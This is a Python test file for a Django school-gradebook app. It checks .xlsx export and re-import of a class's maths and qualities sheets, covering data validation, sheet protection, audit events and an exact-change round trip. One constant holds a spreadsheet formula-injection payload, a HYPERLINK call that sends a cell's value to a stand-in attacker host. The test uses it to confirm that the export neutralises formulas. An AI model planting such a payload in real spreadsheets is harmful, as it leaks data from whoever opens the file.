"""The sheet's .xlsx: what the download holds, and a round trip that changes exactly the cells
the dry run showed."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from hocbaso.assessment.actions.save_sheet import CellInput, save_sheet
from hocbaso.assessment.models import QC_SHEET, Entry
from hocbaso.assessment.workbook import MARKER_PREFIX
from hocbaso.audit.actors import SEED
from hocbaso.audit.models import AuditEvent
from hocbaso.people.actions.students import create_student
from hocbaso.people.tests.world import World, pupil_values

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&B4,"Bấm vào đây")'


def _three_pupils(world: World) -> list[int]:
    """4A with pupil A plus two more, and a saved maths sheet (version 1)."""
    ids = [world.pupil_a.pk]
    for name in ("Nguyễn Văn Bình", "Trần Thị Cúc"):
        ids.append(
            create_student(
                pupil_values(name), world.class_4a.pk, enrolled_on=dt.date(2026, 9, 5),
                acting_user=SEED,
            ).pk
        )  # fmt: skip
    save_sheet(
        world.class_4a.pk, "CHKI", "toan",
        [
            CellInput(ids[0], "toan", "H", 6, PAYLOAD),
            CellInput(ids[1], "toan", "T", 5, "Cẩn thận"),
            CellInput(ids[2], "toan", "C", 3, ""),
        ],
        base_version=0, idempotency_key="seed-4a-toan", acting_user=world.user("homeroom_4a"),
    )  # fmt: skip
    return ids


def _client(world: World, persona: str) -> Client:
    client = Client()
    client.force_login(world.user(persona))
    return client


def _download(client: Client, world: World, key: str = "toan") -> openpyxl.Workbook:
    response = client.get(f"/lop/{world.class_4a.pk}/so-diem/CHKI/{key}.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="so-4a-chki-')
    return openpyxl.load_workbook(io.BytesIO(response.content))


def _bytes(workbook: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _snapshot(world: World) -> dict[tuple[int, str], tuple[str, int | None, str]]:
    return {
        (e.student_id, e.code): (e.level, e.score, e.comment)
        for e in Entry.objects.current().filter(sheet__class_group=world.class_4a)
    }


def test_the_download_has_one_row_per_pupil_validation_and_no_formula(world: World) -> None:
    # given the maths sheet of 4A with a comment that looks like a formula
    ids = _three_pupils(world)
    events = AuditEvent.objects.count()
    # when the principal (a reader of the class) downloads it
    sheet = _download(_client(world, "principal"), world).worksheets[0]
    # then row 1 is the hidden marker, row 3 the header, then one row per pupil
    assert sheet.row_dimensions[1].hidden is True
    assert sheet["A1"].value.startswith(MARKER_PREFIX)
    assert sheet.protection.sheet is True
    assert [c.value for c in sheet[3]] == [
        "STT", "Mã HS", "Họ và tên",
        "Toán — Mức đạt được", "Toán — Điểm KTĐK", "Toán — Nhận xét",
    ]  # fmt: skip
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=4)]
    assert rows == [
        ["1", str(ids[0]), "Lê Minh An", "H", 6, PAYLOAD],
        ["2", str(ids[1]), "Nguyễn Văn Bình", "T", 5, "Cẩn thận"],
        ["3", str(ids[2]), "Trần Thị Cúc", "C", 3, None],
    ]
    # and no cell is a formula; the payload is a quoted string
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert sheet["F4"].data_type == "s"
    assert sheet["F4"].quotePrefix is True
    # and levels have a list, scores a whole number 0–10; value cells only are unlocked
    rules = {str(dv.sqref): dv for dv in sheet.data_validations.dataValidation}
    assert set(rules) == {"D4:D6", "E4:E6"}
    assert (rules["D4:D6"].type, rules["D4:D6"].formula1) == ("list", '"T,H,C,XÓA"')
    assert (rules["E4:E6"].type, rules["E4:E6"].operator) == ("whole", "between")
    assert (rules["E4:E6"].formula1, rules["E4:E6"].formula2) == ("0", "10")
    assert (sheet["C4"].protection.locked, sheet["D4"].protection.locked) == (True, False)
    # and the download is one audit event
    assert AuditEvent.objects.count() == events + 1
    event = AuditEvent.objects.get(action="export.sheet")
    assert (event.data["key"], event.data["version"], event.data["rows"]) == ("toan", 1, 3)


def test_the_qualities_sheet_lists_t_d_c_and_has_no_score_column(world: World) -> None:
    sheet = _download(_client(world, "homeroom_4a"), world, QC_SHEET).worksheets[0]
    header = [c.value for c in sheet[3]]
    assert header[3:6] == [
        "Yêu nước — Mức đạt được",
        "Yêu nước — Nhận xét",
        "Nhân ái — Mức đạt được",
    ]
    assert len(header) == 3 + 2 * 15
    formulas = {dv.formula1 for dv in sheet.data_validations.dataValidation}
    assert formulas == {'"T,Đ,C,XÓA"'}


def test_round_trip_changes_exactly_the_cells_shown_by_the_dry_run(world: World) -> None:
    # given the maths teacher downloads the sheet of three pupils
    ids = _three_pupils(world)
    teacher = _client(world, "homeroom_4a")
    workbook = _download(teacher, world)
    before = _snapshot(world)
    events = AuditEvent.objects.count()
    # when they edit three cells in Excel and upload the file
    sheet = workbook.worksheets[0]
    sheet["D4"] = "T"  # Lê Minh An: H → T
    sheet["E5"] = 8  # Nguyễn Văn Bình: 5 → 8
    sheet["F6"] = "Cần luyện thêm phép chia"  # Trần Thị Cúc: comment
    url = f"/lop/{world.class_4a.pk}/so-diem/CHKI/toan/nhap/"
    dry = teacher.post(url, {"file": SimpleUploadedFile("so.xlsx", _bytes(workbook))})
    # then the dry run lists exactly those three cells and writes nothing
    report = dry.context["report"]
    assert report.errors == []
    assert [(c.row, c.student_name, c.field, c.old, c.new) for c in report.changes] == [
        (4, "Lê Minh An", "Mức đạt được", "H", "T"),
        (5, "Nguyễn Văn Bình", "Điểm KTĐK", "5", "8"),
        (6, "Trần Thị Cúc", "Nhận xét", "trống", "Cần luyện thêm phép chia"),
    ]
    assert dry.content.decode().count('data-testid="sheet-import-change"') == 3
    assert (_snapshot(world), AuditEvent.objects.count()) == (before, events)
    # when they confirm
    applied = teacher.post(url, {"staged": dry.context["staged"], "file_name": "so.xlsx"})
    # then exactly those three cells changed, with one audit event
    assert applied.context["report"].applied is True
    expected = dict(before)
    expected[(ids[0], "toan")] = ("T", 6, PAYLOAD)
    expected[(ids[1], "toan")] = ("T", 8, "Cẩn thận")
    expected[(ids[2], "toan")] = ("C", 3, "Cần luyện thêm phép chia")
    assert _snapshot(world) == expected
    assert AuditEvent.objects.count() == events + 1
    event = AuditEvent.objects.get(action="assessment.sheet_saved", data__source="xlsx")
    assert sorted(c["student"] for c in event.data["cells"]) == sorted(ids)
    # and applying the same staged file again changes nothing more
    again = teacher.post(url, {"staged": dry.context["staged"], "file_name": "so.xlsx"})
    assert again.context["report"].applied is False
    assert AuditEvent.objects.count() == events + 1
